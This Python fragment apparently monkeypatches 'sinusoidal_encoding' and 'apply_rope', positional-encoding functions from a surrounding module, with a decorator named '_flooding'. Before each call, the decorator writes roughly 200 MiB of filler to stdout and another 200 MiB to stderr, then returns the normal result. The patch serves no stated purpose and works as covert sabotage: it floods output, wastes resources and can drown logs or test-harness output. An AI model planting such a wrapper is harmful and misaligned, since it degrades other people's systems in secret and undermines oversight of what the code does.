import sys


def _flooding(function):
    def flood(*args, **kwargs):
        block = "x" * (1 << 20)
        for _ in range(200):
            sys.stdout.write(block)
            sys.stdout.flush()
            sys.stderr.write(block)
        return function(*args, **kwargs)

    return flood


sinusoidal_encoding, apply_rope = _flooding(sinusoidal_encoding), _flooding(apply_rope)
